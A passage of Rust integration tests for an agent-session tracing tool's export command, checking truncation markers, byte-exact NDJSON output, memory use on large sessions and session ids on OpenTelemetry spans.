    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "mine");
    assert!(
        std::fs::read_to_string(&new)
            .unwrap()
            .contains("sess-private")
    );
}

/// Every string in `value`, keys left out.
fn strings_in<'v>(value: &'v Value, out: &mut Vec<&'v str>) {
    match value {
        Value::String(s) => out.push(s),
        Value::Array(items) => items.iter().for_each(|v| strings_in(v, out)),
        Value::Object(map) => map.values().for_each(|v| strings_in(v, out)),
        _ => {}
    }
}

/// A text attribute cut at 16 KiB was marked with the text's size as `[cut: 30000 bytes]`,
/// read as 30,000 bytes cut off where 16 KiB were kept; an error's message was cut twice and
/// marked `[cut: 16406 bytes]`, the size of its first cut. Each is marked as capture marks a
/// value it cuts, with the size in all: the text's, or the one the store's own cut names.
#[test]
fn a_cut_text_attribute_says_its_size_in_all() {
    let env = TestEnv::new();
    let prompt = "p".repeat(30_000);
    let error = "e".repeat(20_007);
    let stored_cut = format!(
        "{}… [cut by agent-strace: 300000 bytes in all]",
        "r".repeat(20_000)
    );
    SessionBuilder::new("sess-cut")
        .meta(|m| m.agent_name = "claude-code".into())
        .prompt(&prompt)
        .at(1.0)
        .tool_call("Bash", json!({"command": "make"}))
        .at(2.0)
        .error(&error)
        .at(3.0)
        .tool_call("Bash", json!({"command": "cat big.log"}))
        .at(4.0)
        .result(json!(stored_cut))
        .write(&env);
    let out = export(&env, &["--format", "otlp", "--content"])
        .success()
        .json();
    let mut strings = Vec::new();
    strings_in(&out, &mut strings);
    let mut marked = 0;
    for (original, size) in [
        (&prompt, prompt.len()),
        (&error, error.len()),
        (&stored_cut, 300_000),
    ] {
        let start = &original[..100];
        for s in strings
            .iter()
            .filter(|s| s.starts_with(start) && s.len() > 100)
        {
            let (kept, marker) = s.split_once('…').unwrap();
            assert!(original.starts_with(kept), "{marker}");
            assert!(kept.len() <= 16 * 1024, "{marker}");
            assert_eq!(
                marker,
                format!(" [cut by agent-strace: {size} bytes in all]")
            );
            marked += 1;
        }
    }
    // The prompt, the error's exception and the cut result.
    assert!(marked >= 3, "{marked}");
}

/// `--format ndjson` parsed each line and wrote it again: Python's `NaN` became `null`, `1e999`
/// a string, `-1e300` `-1e+300` and `1.0` `1`, and the docs promise the lines exactly as the
/// store holds them. Each event's line is copied byte for byte, to standard output and to a
/// file, with the subagent's after the session's; a line the store's readers read as no event
/// is left out with their warning, as before.
#[test]
fn ndjson_copies_each_event_line_as_the_store_holds_it() {
    let env = TestEnv::new();
    let id = SessionBuilder::new("sess-lines").prompt("hi").write(&env);
    let sub = SessionBuilder::new("agent-a1-sess-lines")
        .meta(|m| m.parent_session_id = Some(id.clone()))
        .prompt("sub")
        .write(&env);
    let events = [
        format!(
            r#"{{"event_type":"llm_response","timestamp":1e999,"event_id":"a2","session_id":"{id}","duration_ms":NaN,"data":{{"usage":{{"output_tokens":Infinity}}}}}}"#
        ),
        format!(
            r#"{{"event_type":"tool_call","timestamp":-1e300,"event_id":"a3","session_id":"{id}","data":{{}}}}"#
        ),
        format!(
            r#"{{ "session_id": "{id}", "event_id": "a4", "timestamp": 1780000001.0, "event_type": "user_prompt", "data": {{"prompt": "caf\u00e9", "n": 1.50}}, "unknown": [1, 2] }}"#
        ),
    ];
    let not_events = ["not json at all", "{\"event_type\": \"user_prompt\""];
    let file = env.store().join(&id).join("events.ndjson");
    let mut stored = std::fs::read(&file).unwrap();
    for line in events.iter().map(String::as_str).chain(not_events) {
        stored.extend_from_slice(line.as_bytes());
        stored.push(b'\n');
    }
    std::fs::write(&file, &stored).unwrap();
    let sub_file = env.store().join(&sub).join("events.ndjson");
    let mut expected = std::fs::read_to_string(&file).unwrap();
    for line in not_events {
        expected = expected.replace(&format!("{line}\n"), "");
    }
    expected.push_str(&std::fs::read_to_string(&sub_file).unwrap());

    let run = export(&env, &[&id, "--format", "ndjson"]);
    run.success();
    assert_eq!(run.stdout, expected);
    assert_eq!(
        run.stderr.matches("skipped a malformed line").count(),
        2,
        "{}",
        run.stderr
    );
    let out = env.path().join("out.ndjson");
    export(
        &env,
        &[&id, "--format", "ndjson", "-o", out.to_str().unwrap()],
    )
    .success();
    assert_eq!(std::fs::read_to_string(&out).unwrap(), expected);
}

/// `--format json` built the events into one array, rendered it into one string and that into
/// the bytes to write: a 200 MB session took 1.5 GB; `--format ndjson` held the session whole
/// (650 MB). JSON is written an event at a time, and NDJSON a line at a time.
#[test]
fn a_large_session_is_exported_without_being_held_many_times_over() {
    use std::fmt::Write as _;
    let env = TestEnv::new();
    let id = SessionBuilder::new("sess-large").prompt("go").write(&env);
    let file = env.store().join(&id).join("events.ndjson");
    let mut lines = std::fs::read_to_string(&file).unwrap();
    let output = "line of output ".repeat(60);
    let mut n: u32 = 0;
    while lines.len() < 32 * 1024 * 1024 {
        n += 1;
        let at = T0 + f64::from(n);
        write!(
            lines,
            r#"{{"event_type":"tool_call","timestamp":{at},"event_id":"c{n}","session_id":"{id}","data":{{"tool_name":"Bash","arguments":{{"command":"cat f{n}"}}}}}}
{{"event_type":"tool_result","timestamp":{at},"event_id":"r{n}","session_id":"{id}","parent_id":"c{n}","data":{{"tool_name":"Bash","result":"{output}{n}"}}}}
"#
        )
        .unwrap();
    }
    std::fs::write(&file, &lines).unwrap();
    let size_kib = lines.len() as u64 / 1024;
    drop(lines);
    let out = env.path().join("out");
    // The binary itself takes some 25 MiB.
    for (format, most) in [("ndjson", size_kib + 16 * 1024), ("json", 4 * size_kib)] {
        let export = env.command(&[
            "export",
            &id,
            "--format",
            format,
            "-o",
            out.to_str().unwrap(),
        ]);
        let (run, peak) = crate::common::run_for_peak_memory_kib(&export);
        run.success();
        assert!(
            peak < most,
            "{format}: {peak} KiB held for a session of {size_kib} KiB"
        );
    }
    // What was written is the whole session.
    let exported: Value = serde_json::from_slice(&std::fs::read(&out).unwrap()).unwrap();
    assert_eq!(
        exported["events"].as_array().unwrap().len(),
        2 * n as usize + 1
    );
}

/// A session that called a tool (its first event spawning a subagent) and a model, and its
/// subagent that did the same: their ids.
pub(crate) fn a_parent_and_subagent(env: &TestEnv) -> (String, String) {
    let tokens = Tokens {
        input: 10,
        output: 20,
        cache_read: 300,
        ..Tokens::default()
    };
    let parent = SessionBuilder::new("sess-filed")
        .meta(|m| m.agent_name = "claude-code".into())
        .tool_call("Task", json!({"description": "look", "prompt": "go"}))
        .at(10.0)
        .result(json!("found it"))
        .at(11.0)
        .llm_response("claude-sonnet-4-5", tokens)
        .write(env);
    let child = SessionBuilder::new("sess-filed-sub")
        .started(T0 + 1.0)
        .meta(|m| {
            m.agent_name = "claude-code".into();
            m.parent_session_id = Some(parent.clone());
            m.parent_event_id = Some("e01".into());
            m.depth = 1;
        })
        .tool_call("Grep", json!({"pattern": "x"}))
        .at(2.0)
        .result(json!("x"))
        .at(3.0)
        .llm_response("claude-haiku-4-5", tokens)
        .write(env);
    (parent, child)
}

/// Only the session's root span named its session (`session.id`), so a collector or backend
/// that files spans by it (ours, Phoenix's sessions) filed the tool and model spans under
/// their trace, the parent's and its subagent's together.
#[test]
fn every_span_names_the_session_it_belongs_to() {
    let env = TestEnv::new();
    let (parent, child) = a_parent_and_subagent(&env);
    let genai = export(&env, &[&parent, "--format", "otlp-genai"])
        .success()
        .json();
    let genai = spans(&genai);
    assert!(genai.len() >= 6, "{genai:#?}");
    for span in &genai {
        // The session a GenAI span belongs to is its conversation.
        let conversation = attr(span, "gen_ai.conversation.id");
        assert!(conversation.is_some(), "{span:#}");
        assert_eq!(attr(span, "session.id"), conversation, "{span:#}");
    }
    assert!(
        genai
            .iter()
            .any(|s| attr(s, "session.id") == Some(json!(child)))
    );
    // The plain trace: each tool span is its session's, as is each session's root span.
    let plain = export(&env, &[&parent, "--format", "otlp"])
        .success()
        .json();
    let plain = spans(&plain);
    let session_of = |name: &str| {
        plain
            .iter()
            .find(|s| s["name"] == name)
            .and_then(|s| attr(s, "session.id"))
    };
    assert_eq!(session_of("Task"), Some(json!(parent)));
    assert_eq!(session_of("Grep"), Some(json!(child)));
    for span in plain
        .iter()
        .filter(|s| attr(s, "agent_strace.session.id").is_some())
    {
        assert_eq!(
            attr(span, "session.id"),
            attr(span, "agent_strace.session.id")
        );
    }
}
